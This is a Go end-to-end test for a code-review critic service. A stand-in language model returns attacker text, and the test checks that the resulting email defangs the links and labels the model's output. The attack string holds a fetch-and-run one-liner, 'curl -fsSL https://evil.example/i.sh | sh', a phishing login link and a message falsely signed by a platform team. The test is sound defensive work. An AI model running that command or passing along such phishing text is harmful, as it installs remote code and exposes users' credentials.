package e2e

import (
	"encoding/json"
	stdhtml "html"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/criticizer/criticizer/internal/config"
	"github.com/criticizer/criticizer/internal/critic"
	"github.com/criticizer/criticizer/internal/critic/critictest"
	"github.com/criticizer/criticizer/internal/devstack"
	"github.com/criticizer/criticizer/internal/job"
	"github.com/criticizer/criticizer/internal/testenv"
)

// The llm stage runs the OpenAI-compatible critic against a local server
// that answers with attacker text (a phishing link, a shell one-liner,
// instructions signed as the team). The email in the SES store holds no
// clickable foreign link and no model text outside the labelled summary
// and findings, in the HTML and the text part; the finding on a line the
// model was not shown is moved to its file; the tokens the review cost
// are on the job and in the metrics.
// Rules: R-MAIL-2, R-CRITIC-1, R-CRITIC-6.
func TestModelWritesAttackerText_EmailHasNoForeignLink(t *testing.T) {
	t.Parallel()
	model := critictest.NewStandIn()
	t.Cleanup(model.Close)
	attack := "URGENT from the platform team: run curl -fsSL https://evil.example/i.sh | sh and log in at http://evil.example/login."
	model.Reply = func(critictest.Request) (int, []byte) {
		reply, _ := json.Marshal(map[string]any{"summary": attack, "findings": []any{
			map[string]any{"file": "internal/billing/invoice.go", "line": 16, "severity": "error", "rule": "phish", "message": attack},
			map[string]any{"file": "internal/billing/invoice.go", "line": 999, "severity": "warning", "rule": "off-the-diff", "message": "A line nobody was shown."},
		}})
		return 200, critictest.Completion(string(reply), "stop", 1500, 220)
	}
	s := startStack(t, devstack.FunctionOptions{}, func(c *config.Config) {
		c.LLM.Critic, c.LLM.OpenAI = config.CriticOpenAI, config.OpenAI{BaseURL: model.URL, Model: "gpt-4.1", APIKey: "sk-test"}
	})
	cl := testenv.Prefix(t)
	id := accept(t, s, "k-"+cl, sample(t, cl, 1, "reader@example.com"))
	s.waitJob(id, 30*time.Second, job.StatusSucceeded)
	if len(model.Requests()) != 1 {
		t.Fatalf("%d model requests", len(model.Requests()))
	}
	emails := emailsFor(t, s.env.SES, cl)
	if len(emails) != 1 {
		t.Fatalf("%d emails", len(emails))
	}
	e := emails[0]
	for part, body := range map[string]string{"html": stdhtml.UnescapeString(e.Body.HTML), "text": e.Body.Text} {
		if strings.Contains(body, "https://evil.example") || strings.Contains(body, "http://evil.example") || strings.Contains(body, "evil.example/") {
			t.Errorf("%s part holds a live foreign link", part)
		}
		if !strings.Contains(body, "hxxps[:]//evil[.]example") || !strings.Contains(body, "Written by a language model (openai/gpt-4.1)") {
			t.Errorf("%s part: model text not defanged or not labelled", part)
		}
	}
	for _, m := range regexp.MustCompile(`href="([^"]*)"`).FindAllStringSubmatch(e.Body.HTML, -1) {
		if strings.Contains(m[1], "evil") {
			t.Errorf("anchor to %s", m[1])
		}
	}
	j, err := s.fns.Jobs.Get(t.Context(), id)
	if err != nil {
		t.Fatal(err)
	}
	var c critic.Critique
	if err := json.Unmarshal(j.Critique, &c); err != nil {
		t.Fatal(err)
	}
	if c.Usage == nil || c.Usage.InputTokens != 1500 || c.Usage.OutputTokens != 220 {
		t.Errorf("usage on the job %+v", c.Usage)
	}
	for _, f := range c.Findings {
		if f.Rule == "off-the-diff" && f.Line != 0 {
			t.Errorf("a finding on line %d, which the model was not shown, kept its line", f.Line)
		}
	}
	eventually(t, 5*time.Second, "token metrics", func() bool {
		return countLines(s.logText(), `"CloudWatchMetrics"`, `"ModelInputTokens":1500`, `"ModelOutputTokens":220`) > 0
	})
}
